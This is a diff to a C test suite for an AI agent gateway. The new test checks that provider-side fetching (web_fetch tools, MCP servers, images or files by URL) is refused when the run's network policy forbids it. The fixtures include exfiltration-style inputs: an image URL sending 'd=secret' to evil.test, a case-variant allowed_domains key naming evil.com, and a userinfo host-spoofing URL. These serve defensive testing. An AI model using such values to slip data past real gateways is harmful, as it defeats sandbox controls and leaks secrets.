@@ -1460,10 +1460,10 @@ Test(supervisor_llm, openrouter_model_variants_under_a_cost_cap)
  * states no cost; one that is no price refuses the routing under a cost cap. */
 Test(supervisor_llm, openrouter_max_price_request_and_image_fees)
 {
-#define ROUTED(fees)                                                                                                 \
-        "{\"model\":\"claude-test\",\"max_tokens\":10,\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":"      \
-        "\"image_url\",\"image_url\":{\"url\":\"https://x/a.png\"}},{\"type\":\"image_url\",\"image_url\":{\"url\":" \
-        "\"https://x/b.png\"}}]}],\"provider\":{\"max_price\":{\"prompt\":1,\"completion\":1" fees "}}}"
+#define ROUTED(fees)                                                                                                          \
+        "{\"model\":\"claude-test\",\"max_tokens\":10,\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":"               \
+        "\"image_url\",\"image_url\":{\"url\":\"data:image/png;base64,AA\"}},{\"type\":\"image_url\",\"image_url\":{\"url\":" \
+        "\"data:image/png;base64,BB\"}}]}],\"provider\":{\"max_price\":{\"prompt\":1,\"completion\":1" fees "}}}"
         static const char reply[] = "{\"id\":\"c\",\"model\":\"claude-test\",\"choices\":[{\"message\":{\"role\":"
                                     "\"assistant\",\"content\":\"hi\"},\"finish_reason\":\"stop\"}],"
                                     "\"usage\":{\"prompt_tokens\":100,\"completion_tokens\":10}}";
@@ -1498,4 +1498,164 @@ Test(supervisor_llm, openrouter_max_price_request_and_image_fees)
         f.obs.on_done(f.obs.userdata, &call, AJ_GATEWAY_REFUSED, 0);
         teardown(&f);
 #undef ROUTED
+}
+
+/* Where a request lets the provider connect for the agent (MCP servers, fetch tools) is judged
+ * against the run's network policy: data would otherwise leave through the provider to hosts
+ * the jail cannot reach. `allow`: network.allow entries (NULL: no network). */
+static void setup_reach(Fixture *f, char *const *allow, bool provider_fetch, AjNetPolicy **policy)
+{
+        setup(f, NULL);
+        *policy = NULL;
+        if (allow)
+                cr_assert_eq(aj_net_policy_parse(allow, policy, NULL, NULL), 0);
+        f->llm.net_policy = *policy;
+        f->llm.provider_fetch = provider_fetch;
+}
+
+#define ANTHROPIC_WITH(members) "{\"model\":\"claude-test\",\"max_tokens\":10,\"messages\":[]," members "}"
+#define RESPONSES_WITH(members) "{\"model\":\"claude-test\",\"input\":\"hi\"," members "}"
+
+/* `body` to `path` gets `status`; 403 says `says`. */
+static void expect_reach(Fixture *f, const AjGatewayProvider *pr, const char *path, const char *body, unsigned status,
+                         const char *says)
+{
+        expect_refused(f, pr, path, body, status, status ? says : NULL);
+        if (status == 403)
+                cr_expect(strstr(json_string_value(json_object_get(last_event("llm.request"), "reason")),
+                                 "llm.provider_fetch"),
+                          "%s", body);
+}
+
+Test(supervisor_llm, provider_fetching_is_judged_against_the_network_policy)
+{
+        static const char *const web_fetch_free = ANTHROPIC_WITH("\"tools\":[{\"type\":\"web_fetch_20250910\","
+                                                                 "\"name\":\"web_fetch\"}]");
+        static const char *const web_fetch_bound = ANTHROPIC_WITH(
+                "\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"web_fetch\","
+                "\"allowed_domains\":[\"example.com\"]}]");
+        static const char *const mcp_server = ANTHROPIC_WITH(
+                "\"mcp_servers\":[{\"type\":\"url\",\"name\":\"m\",\"url\":\"https://mcp.example.com/sse\"}]");
+        static const char *const responses_mcp = RESPONSES_WITH(
+                "\"tools\":[{\"type\":\"mcp\",\"server_label\":\"m\",\"server_url\":\"https://mcp.example.com/mcp\"}]");
+        char *host_only[] = { "example.com", "mcp.example.com:443", NULL };
+        char *with_subdomains[] = { "example.com", "*.example.com", NULL };
+        Fixture f;
+        AjNetPolicy *policy;
+
+        /* No network: each is refused, naming the tool and the host. */
+        setup_reach(&f, NULL, false, &policy);
+        expect_reach(&f, &anthropic, "/v1/messages", web_fetch_free, 403,
+                     "web_fetch_20250910\" without allowed_domains");
+        expect_reach(&f, &anthropic, "/v1/messages", web_fetch_bound, 403, "host example.com port 443");
+        expect_reach(&f, &anthropic, "/v1/messages", mcp_server, 403,
+                     "mcp_servers[0].url, host mcp.example.com port 443");
+        expect_reach(&f, &anthropic, "/v1/messages/count_tokens", mcp_server, 403, "mcp_servers[0]");
+        expect_reach(&f, &openai, "/v1/responses", responses_mcp, 403, "\"mcp\" server_url, host mcp.example.com");
+        /* Any letter case and version the provider would take, a namespace's fetch tool. */
+        expect_reach(&f, &anthropic, "/v1/messages",
+                     ANTHROPIC_WITH("\"tools\":[{\"type\":\"WEB_FETCH_20260101\",\"name\":\"f\"}]"), 403,
+                     "WEB_FETCH_20260101");
+        expect_reach(&f, &openai, "/v1/chat/completions",
+                     "{\"model\":\"claude-test\",\"messages\":[],\"tools\":[{\"type\":\"openrouter:web_fetch\"}]}", 403,
+                     "openrouter:web_fetch");
+        expect_reach(&f, &openai, "/v1/responses",
+                     RESPONSES_WITH("\"tools\":[{\"type\":\"MCP\",\"server_label\":\"m\",\"server_url\":"
+                                    "\"https://mcp.example.com\"}]"),
+                     403, "\"MCP\" server_url");
+        expect_reach(&f, &openai, "/v1/responses", RESPONSES_WITH("\"tools\":[{\"type\":\"mcp_remote\"}]"), 403,
+                     "\"mcp_remote\" server_url, any host");
+        expect_reach(&f, &anthropic, "/v1/messages",
+                     ANTHROPIC_WITH("\"tools\":[{\"type\":\"mcp_toolset\",\"mcp_server_name\":\"m\"}]"), 0, NULL);
+        /* A provider's connector, a tool type the gateway does not know, a stored prompt, what it
+         * cannot read: no host it can judge. */
+        expect_reach(&f, &openai, "/v1/responses",
+                     RESPONSES_WITH("\"tools\":[{\"type\":\"mcp\",\"server_label\":\"g\",\"connector_id\":"
+                                    "\"connector_gmail\"}]"),
+                     403, "connector_id connector_gmail, any host");
+        expect_reach(&f, &openai, "/v1/responses", RESPONSES_WITH("\"tools\":[{\"type\":\"url_context\"}]"), 403,
+                     "a type the gateway does not know");
+        expect_reach(&f, &openai, "/v1/responses", RESPONSES_WITH("\"prompt\":{\"id\":\"pmpt_1\"}"), 403,
+                     "stored \"prompt\"");
+        expect_reach(&f, &anthropic, "/v1/messages", ANTHROPIC_WITH("\"mcp_servers\":{}"), 403, "not an array");
+        expect_reach(&f, &anthropic, "/v1/messages",
+                     ANTHROPIC_WITH("\"mcp_servers\":[{\"type\":\"url\",\"url\":\"ftp://x\"}]"), 403, "any host");
+        /* A member spelled in another case, which a provider matching names so would read. */
+        expect_reach(&f, &anthropic, "/v1/messages",
+                     ANTHROPIC_WITH("\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"f\","
+                                    "\"allowed_domains\":[\"example.com\"],\"Allowed_Domains\":[\"evil.com\"]}]"),
+                     400, NULL);
+        expect_reach(&f, &anthropic, "/v1/messages", ANTHROPIC_WITH("\"MCP_Servers\":[]"), 400, NULL);
+        /* A path the gateway does not meter (a batch of requests) is read for them too. */
+        expect_reach(&f, &anthropic, "/v1/messages/batches",
+                     "{\"requests\":[{\"custom_id\":\"a\",\"params\":" ANTHROPIC_WITH(
+                             "\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"f\"}]") "}]}",
+                     403, "web_fetch_20250910");
+        /* What Claude Code sends (its WebSearch is a server tool, its WebFetch the client's) goes. */
+        expect_reach(&f, &anthropic, "/v1/messages",
+                     ANTHROPIC_WITH("\"tools\":[{\"name\":\"WebFetch\",\"input_schema\":{\"type\":\"object\"}},"
+                                    "{\"type\":\"web_search_20250305\",\"name\":\"web_search\",\"max_uses\":8}]"),
+                     0, NULL);
+        /* Images and files by URL: the provider fetches them; inline data it does not. */
+        expect_reach(&f, &anthropic, "/v1/messages",
+                     "{\"model\":\"claude-test\",\"max_tokens\":10,\"messages\":[{\"role\":\"user\",\"content\":["
+                     "{\"type\":\"image\",\"source\":{\"type\":\"url\",\"url\":\"https://evil.test/x?d=secret\"}}]}]}",
+                     403, "an image or file by URL (\"url\"), host evil.test port 443");
+        expect_reach(&f, &openai, "/v1/chat/completions",
+                     "{\"model\":\"claude-test\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":"
+                     "\"image_url\",\"image_url\":{\"url\":\"http://evil.test/a.png\"}}]}]}",
+                     403, "host evil.test port 80");
+        expect_reach(&f, &openai, "/v1/responses",
+                     "{\"model\":\"claude-test\",\"input\":[{\"role\":\"user\",\"content\":[{\"type\":"
+                     "\"input_file\",\"file_url\":\"https://evil.test/a.pdf\"}]}]}",
+                     403, "(\"file_url\"), host evil.test");
+        expect_reach(&f, &openai, "/v1/chat/completions",
+                     "{\"model\":\"claude-test\",\"messages\":[{\"role\":\"user\",\"content\":[{\"type\":"
+                     "\"image_url\",\"image_url\":{\"url\":\"data:image/png;base64,AAAA\"}}]}]}",
+                     0, NULL);
+        expect_reach(&f, &anthropic, "/v1/messages/batches", "{\"requests\":[]}", 0, NULL);
+        expect_reach(&f, &anthropic, "/v1/messages/batches", "{\"requests\":[],\"requests\":[]}", 400, "repeats a key");
+        expect_reach(&f, &anthropic, "/v1/files", "--boundary\r\nnot json", 0, NULL);
+        teardown(&f);
+
+        /* Hosts the policy allows go; a domain only with its subdomains (the provider fetches
+         * from them too); a URL's user info is not read past. */
+        setup_reach(&f, host_only, false, &policy);
+        expect_reach(&f, &anthropic, "/v1/messages", mcp_server, 0, NULL);
+        expect_reach(&f, &openai, "/v1/responses", responses_mcp, 0, NULL);
+        expect_reach(&f, &anthropic, "/v1/messages", web_fetch_bound, 403, "not its subdomains");
+        expect_reach(&f, &anthropic, "/v1/messages", web_fetch_free, 403, "without allowed_domains");
+        expect_reach(&f, &anthropic, "/v1/messages",
+                     ANTHROPIC_WITH("\"mcp_servers\":[{\"type\":\"url\",\"url\":\"https://mcp.example.com:8443/\"}]"),
+                     403, "port 8443");
+        expect_reach(&f, &anthropic, "/v1/messages",
+                     ANTHROPIC_WITH("\"mcp_servers\":[{\"type\":\"url\",\"url\":"
+                                    "\"https://mcp.example.com@evil.com/\"}]"),
+                     403, "any host");
+        teardown(&f);
+        aj_net_policy_free(policy);
+        setup_reach(&f, with_subdomains, false, &policy);
+        expect_reach(&f, &anthropic, "/v1/messages", web_fetch_bound, 0, NULL);
+        expect_reach(&f, &anthropic, "/v1/messages",
+                     ANTHROPIC_WITH("\"tools\":[{\"type\":\"web_fetch_20250910\",\"name\":\"f\","
+                                    "\"allowed_domains\":[\"example.com\",\"evil.com\"]}]"),
+                     403, "allowed_domains[1], host evil.com");
+        teardown(&f);
+        aj_net_policy_free(policy);
+
+        /* llm.provider_fetch lets them through, and the event names each. */
+        setup_reach(&f, NULL, true, &policy);
+        AjGatewayCall call;
+        AjGatewayVerdict v;
+        request(&f, &call, &openai, "/v1/responses",
+                RESPONSES_WITH("\"tools\":[{\"type\":\"mcp\",\"server_label\":\"g\",\"connector_id\":\"c\"},"
+                               "{\"type\":\"mcp\",\"server_label\":\"m\",\"server_url\":\"https://mcp.example.com\"}]"),
+                &v);
+        cr_expect_eq(v.status, 0, "%s", v.message);
+        json_t *fetch = json_object_get(last_event("llm.request"), "provider_fetch");
+        cr_expect_eq(json_array_size(fetch), 2);
+        cr_expect(strstr(json_string_value(json_array_get(fetch, 1)), "host mcp.example.com port 443"));
+        free(v.body);
+        f.obs.on_done(f.obs.userdata, &call, AJ_GATEWAY_FAILED, 0);
+        teardown(&f);
 }
